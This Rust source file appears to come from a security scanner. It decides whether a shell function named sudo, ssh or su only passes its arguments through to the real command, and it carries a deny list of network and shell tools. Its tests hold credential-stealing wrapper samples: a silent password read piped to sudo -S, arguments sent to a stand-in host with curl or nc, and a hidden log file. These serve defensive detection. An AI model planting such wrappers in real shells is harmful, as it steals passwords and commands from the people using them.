//! A shell function named after `sudo`, `ssh` or `su` whose body only
//! says something and hands its arguments to the real command (blind87c's
//! `dotfiles-sync` twin: `sudo() { command sudo -n true 2>/dev/null ||
//! echo "(sudo will ask for your password)" >&2; command sudo "$@"; }`).
//! `command-hijack` blocks a function of that name because the password
//! typed into it is the function's to keep; one that reads nothing, sends
//! nothing and writes no file leaves the password to the real command.
//! A body that reads input (`read -s`), feeds the real command a password
//! (`-S`, an askpass helper), reaches the network, writes a file or runs
//! another program text keeps the block, as does a body too long to judge.

use crate::lines::Lines;

/// The most lines a body spans for it to be read.
const MOST_LINES: usize = 12;

/// Words of a body that capture, send, store or run something other than
/// the wrapped command.
const CAPTURES: &[&str] = &[
    "read",
    "curl",
    "wget",
    "nc",
    "ncat",
    "socat",
    "telnet",
    "openssl",
    "tee",
    "eval",
    "exec",
    "source",
    "base64",
    "xxd",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "mail",
    "sendmail",
    "scp",
    "rsync",
    "ftp",
    "dd",
    "history",
    "trap",
    "export",
    "askpass",
    "-S",
    "--stdin",
    "-A",
    "--askpass",
    "/dev/tcp",
    "/dev/udp",
    "http",
    "https",
    "nohup",
    "disown",
];

/// The redirects that write no file.
const HARMLESS_REDIRECTS: &[&str] = &[
    ">/dev/null",
    "2>/dev/null",
    "&>/dev/null",
    ">&2",
    "2>&1",
    "1>&2",
];

/// Whether the function defined on `line` (named `sudo`, `ssh`, …) only
/// passes its arguments through to the real command: its body, up to the
/// brace that closes it, calls `command NAME` (or `builtin`, or the
/// program's absolute path) and holds none of `CAPTURES`.
pub fn only_passes_through(lines: &Lines, line: usize) -> bool {
    let Some((name, body)) = function_body(lines, line) else {
        return false;
    };
    let mut body = body;
    for redirect in HARMLESS_REDIRECTS {
        body = body.replace(redirect, " ");
    }
    let words: Vec<&str> = body
        .split(|c: char| c.is_whitespace() || ";|&(){}`'\"$".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    let calls_real = words
        .windows(2)
        .any(|pair| matches!(pair[0], "command" | "builtin") && pair[1] == name)
        || words
            .iter()
            .any(|w| w.starts_with('/') && w.rsplit('/').next() == Some(name));
    calls_real
        && !body.contains('>')
        && !body.contains('<')
        && !words.iter().any(|w| {
            CAPTURES.iter().any(|c| {
                w.eq_ignore_ascii_case(c) || w.contains("://") || w.starts_with("/dev/tcp")
            })
        })
}

/// The name a function is defined under on `line` and its body's text,
/// from the brace that opens it to the one that closes it.
fn function_body(lines: &Lines, line: usize) -> Option<(&'static str, String)> {
    const NAMES: &[&str] = &["sudo", "su", "doas", "ssh", "passwd"];
    let head = lines.get(line).trim_start();
    let head = head.strip_prefix("function ").unwrap_or(head).trim_start();
    let name = NAMES.iter().copied().find(|n| {
        head.strip_prefix(n)
            .is_some_and(|rest| rest.trim_start().starts_with(['(', '{']))
    })?;
    let mut body = String::new();
    let mut depth = 0usize;
    let mut opened = false;
    for at in line..(line + MOST_LINES).min(lines.count()) {
        for c in lines.get(at).chars() {
            match c {
                '{' => {
                    depth += 1;
                    opened = true;
                }
                '}' if opened => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return Some((name, body));
                    }
                }
                _ if opened => body.push(c),
                _ => {}
            }
        }
        body.push('\n');
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn passes(text: &str) -> bool {
        only_passes_through(&Lines::new(text), 0)
    }

    #[test]
    fn a_wrapper_that_only_speaks_and_passes_through_is_spared() {
        for text in [
            "sudo() {\n  command sudo -n true 2>/dev/null || echo \"(sudo will ask)\" >&2\n  command sudo \"$@\"\n}\n",
            "ssh() { printf '\\033]0;%s\\007' \"$*\"; command ssh \"$@\"; }\n",
            "function sudo {\n  echo \"root: $*\" >&2\n  /usr/bin/sudo \"$@\"\n}\n",
        ] {
            assert!(passes(text), "{text}");
        }
    }

    #[test]
    fn a_wrapper_that_captures_sends_or_stores_is_kept() {
        for text in [
            "sudo() {\n  read -rs _p\n  printf '%s\\n' \"$_p\" | command sudo -S -v\n  command sudo \"$@\"\n}\n",
            "sudo() {\n  curl -s https://x.example/c -d \"$*\" &\n  command sudo \"$@\"\n}\n",
            "sudo() {\n  echo \"$*\" >> ~/.cache/.s\n  command sudo \"$@\"\n}\n",
            "ssh() { echo \"$@\" | nc 192.0.2.9 9000; command ssh \"$@\"; }\n",
            "sudo() {\n  echo \"sudo: $*\" >&2\n}\n",
            "sudo() {\n  command sudo \"$@\"\n",
        ] {
            assert!(!passes(text), "{text}");
        }
    }
}
